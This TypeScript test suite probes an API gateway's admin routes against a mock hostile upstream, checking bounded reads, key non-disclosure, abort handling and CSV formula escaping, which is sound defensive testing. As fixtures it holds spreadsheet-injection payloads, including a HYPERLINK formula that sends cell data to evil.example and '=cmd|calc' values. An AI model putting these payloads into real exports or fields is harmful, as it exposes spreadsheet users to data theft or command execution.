// Attacker's review of the operator's routes (admin-ops-routes.ts, the all-logs CSV, channel types) over the
// real wire: a hostile upstream on a port (endless pages, endless bodies, slow answers, answers that echo the
// channel's key back), the gateway on another, and the administrator's own session or key as the client.
import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestGateway, testKey, type TestGateway } from '../helpers/test-gateway.ts';
import { ApiClient } from '../helpers/api-client.ts';

const UPSTREAM_KEY = 'sk-hostile-upstream-key-0123456789';
const ADMIN = { email: 'ops-attack@example.com', password: 'ops attack password 1' };
const ADMIN_KEY = testKey('opsattackadmin');
const USER_KEY = testKey('opsattackuser');
const SLOW_CHANNELS = 24;

/** What the hostile upstream saw, by the first path segment (the channel's "mode"). */
const seen = new Map<string, number>();
let endlessBytes = 0;

function endless(response: ServerResponse, first: string): void {
  response.writeHead(200, { 'content-type': 'application/json' });
  response.write(first);
  const chunk = 'x'.repeat(64 * 1024);
  const pump = () => {
    while (!response.destroyed) {
      endlessBytes += chunk.length;
      if (!response.write(chunk)) return void response.once('drain', pump);
    }
  };
  pump();
}

/** One upstream, many behaviours: the first path segment of the channel's base URL chooses. */
function hostileUpstream(request: import('node:http').IncomingMessage, response: ServerResponse): void {
  const url = new URL(request.url!, 'http://x');
  const [mode, ...rest] = url.pathname.slice(1).split('/');
  const path = `/${rest.join('/')}`;
  seen.set(mode!, (seen.get(mode!) ?? 0) + 1);
  const json = (status: number, body: unknown): void => void response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
  request.resume();
  switch (mode) {
    case 'pages':
      // Always one more page, with a cursor that never moves.
      if (path === '/v1/models') return json(200, { data: [{ id: `model-${seen.get(mode)}` }], has_more: true, last_id: 'same' });
      break;
    case 'echo':
      // Echoes the credential it was given, in the body of every refusal.
      return json(401, { error: { message: `bad key ${request.headers.authorization} (${String(request.headers.authorization).replace('Bearer ', '')})` } });
    case 'endless':
      if (path === '/v1/models') return endless(response, '{"data":[{"id":"');
      if (path === '/v1/chat/completions') return endless(response, '{"id":"');
      break;
    case 'slow':
      setTimeout(() => json(200, { id: 'x', object: 'chat.completion', choices: [] }), 1_500);
      return;
    case 'formula':
      return json(400, { error: { message: '=HYPERLINK("http://evil.example/?"&A1,"click")', type: 'invalid_request_error' } });
    default:
  }
  json(404, { error: { message: 'not here' } });
}

let upstream: Server;
let upstreamUrl: string;
let gateway: TestGateway;
let admin: ApiClient;
let ids: Record<string, number> = {};

beforeAll(async () => {
  upstream = createServer(hostileUpstream);
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  upstreamUrl = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
  const channel = (name: string, mode: string, model: string) => ({ name, type: 'openai', base_url: `${upstreamUrl}/${mode}`, api_key: UPSTREAM_KEY, models: [model] });
  gateway = await startTestGateway({
    channels: [
      channel('pages', 'pages', 'pages-model'),
      channel('echo', 'echo', 'echo-model'),
      channel('endless', 'endless', 'endless-model'),
      channel('formula', 'formula', '=cmd|calc'),
      ...Array.from({ length: SLOW_CHANNELS }, (_, i) => channel(`slow-${i}`, 'slow', 'slow-model')),
    ],
    models: ['pages-model', 'echo-model', 'endless-model', '=cmd|calc', 'slow-model'].map((id) => ({ id, input_per_mtok: 1, output_per_mtok: 2 })),
    users: [
      { name: 'root', email: ADMIN.email, password: ADMIN.password, role: 'admin' },
      { name: '@SUM(1+1)', email: 'formula-user@example.com', password: 'formula user password', balance: 5 },
    ],
    keys: [{ name: 'root-key', key: ADMIN_KEY, user: 'root' }, { name: '+cmd key', key: USER_KEY, user: '@SUM(1+1)' }],
  });
  admin = new ApiClient(gateway.url);
  expect((await admin.post('/api/auth/login', ADMIN)).status).toBe(200);
  ids = Object.fromEntries((await admin.get('/api/admin/channels')).body.data.map((row: { id: number; name: string }) => [row.name, row.id]));
}, 60_000);

afterAll(async () => {
  await gateway?.dispose();
  upstream?.closeAllConnections();
  await new Promise((resolve) => upstream?.close(resolve));
});

describe('the overview period', () => {
  it('refuses a date past what a date can hold with a 400 naming the field, never a 500', async () => {
    for (const [query, param] of [['to=9999999999999999', 'to'], ['from=1&to=9000000000000000', 'to'], ['from=-271821-04-20T00:00:00Z&to=-271821-04-21T00:00:00Z', 'from'], ['to=%2B275760-09-13T00:00:00.000Z', 'to']] as const) {
      const answer = await admin.get(`/api/admin/overview?${query}`);
      expect({ query, status: answer.status }).toEqual({ query, status: 400 });
      expect(answer.body.error.param).toBe(param);
    }
  });
});

describe('fetching a channel\'s models from a hostile upstream', () => {
  it('follows a cursor that never ends for a bounded number of pages', async () => {
    seen.delete('pages');
    const answer = await new ApiClient(gateway.url, ADMIN_KEY).get(`/api/admin/channels/${ids.pages}/upstream-models`);
    expect(answer.status).toBe(200);
    expect(seen.get('pages')).toBeLessThanOrEqual(20);
    expect(answer.body.models.length).toBeLessThanOrEqual(20);
  });

  it('stops reading an endless model list at its limit', async () => {
    endlessBytes = 0;
    const started = Date.now();
    const answer = await admin.get(`/api/admin/channels/${ids.endless}/upstream-models`);
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ available: false });
    expect(Date.now() - started).toBeLessThan(10_000);
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(endlessBytes).toBeLessThan(32 * 1024 * 1024);
  });

  it('never shows the channel\'s key, even when the upstream echoes it back', async () => {
    const models = await admin.get(`/api/admin/channels/${ids.echo}/upstream-models`);
    const balance = await admin.get(`/api/admin/channels/${ids.echo}/balance`);
    const tested = await admin.post('/api/admin/channels/test-all', { channel_ids: [ids.echo] });
    expect(models.body.available).toBe(false);
    expect(models.body.reason).toContain('bad key');
    for (const answer of [models, balance, tested]) {
      expect(answer.status).toBe(200);
      expect(answer.text).not.toContain(UPSTREAM_KEY);
    }
    expect((await admin.get('/api/admin/audit')).text).not.toContain(UPSTREAM_KEY);
  });

  it('answers 404 alike for a channel that never existed and one just deleted', async () => {
    const created = await admin.post('/api/admin/channels', { name: 'short-lived', type: 'openai', base_url: `${upstreamUrl}/pages`, api_key: UPSTREAM_KEY, models: ['pages-model'] });
    expect(created.status).toBe(201);
    expect((await admin.delete(`/api/admin/channels/${created.body.id}`)).status).toBe(200);
    for (const suffix of ['balance', 'upstream-models']) {
      const deleted = await admin.get(`/api/admin/channels/${created.body.id}/${suffix}`);
      const never = await admin.get(`/api/admin/channels/987654/${suffix}`);
      expect(deleted.status).toBe(404);
      expect(deleted.body).toEqual(never.body);
    }
  });
});

describe('testing every channel', () => {
  it('stops reading an endless answer to the test request far before the whole-body limit', async () => {
    endlessBytes = 0;
    const answer = await admin.post('/api/admin/channels/test-all', { channel_ids: [ids.endless] });
    expect(answer.status).toBe(200);
    expect(answer.body.data[0]).toMatchObject({ channel: 'endless', ok: false });
    await new Promise((resolve) => setTimeout(resolve, 200));
    // The test needs the status and the start of an error, not 64 MB of whatever the upstream sends.
    expect(endlessBytes).toBeLessThan(16 * 1024 * 1024);
  });

  it('stops testing when the administrator goes away', async () => {
    seen.delete('slow');
    const slow = Array.from({ length: SLOW_CHANNELS }, (_, i) => ids[`slow-${i}`]!);
    const controller = new AbortController();
    const request = fetch(`${gateway.url}/api/admin/channels/test-all`, {
      method: 'POST', signal: controller.signal,
      headers: { authorization: `Bearer ${ADMIN_KEY}`, 'content-type': 'application/json' },
      body: JSON.stringify({ channel_ids: slow }),
    }).catch(() => null);
    await new Promise((resolve) => setTimeout(resolve, 500));
    controller.abort();
    await request;
    // Four at a time, 1.5 s each: all 24 would take 9 s. Gone after 0.5 s, no new test should start.
    await new Promise((resolve) => setTimeout(resolve, 4_000));
    expect(seen.get('slow') ?? 0).toBeLessThanOrEqual(8);
  });
});

describe('the all-logs CSV', () => {
  it('keeps every cell an attacker can write (user name, key name, model, upstream error) from running as a formula', async () => {
    const client = new OpenAI({ baseURL: `${gateway.url}/v1`, apiKey: USER_KEY, maxRetries: 0 });
    await expect(client.chat.completions.create({ model: '=cmd|calc', messages: [{ role: 'user', content: 'hi' }] })).rejects.toThrow();
    let csv = '';
    await expect.poll(async () => {
      csv = (await admin.get('/api/admin/logs.csv')).text;
      return csv.includes('formula-user@example.com');
    }, { timeout: 10_000 }).toBe(true);
    const cells = parseCsv(csv);
    const header = cells[0]!;
    const row = cells.find((line) => line.includes('formula-user@example.com'))!;
    const cell = (name: string) => row[header.indexOf(name)]!;
    expect(cell('user_name')).toBe("'@SUM(1+1)");
    expect(cell('key_name')).toBe("'+cmd key");
    expect(cell('model')).toBe("'=cmd|calc");
    expect(cell('error').startsWith("'") || !/^[=+\-@]/.test(cell('error'))).toBe(true);
    for (const line of cells) for (const value of line) expect(/^[=+@\t\r]/.test(value) || /^-[^\d]/.test(value), value).toBe(false);
  });
});

/** RFC 4180: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i += 1; } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += c;
  }
  return rows;
}

describe('the statistics period (the same query values)', () => {
  it('refuses a date past what a date can hold on /api/stats and the logs, for any signed-in user, never a 500', async () => {
    const user = new ApiClient(gateway.url, USER_KEY);
    for (const path of ['/api/stats?to=9999999999999999', '/api/stats?from=0&to=9000000000000000', '/api/logs?to=9999999999999999', '/api/logs.csv?from=-271821-04-20T00:00:00Z']) {
      const answer = await user.get(path);
      expect({ path, status: answer.status }).toEqual({ path, status: 400 });
    }
    expect((await user.get(`/api/stats?from=0&to=${Date.now()}`)).status).toBe(200);
  });
});
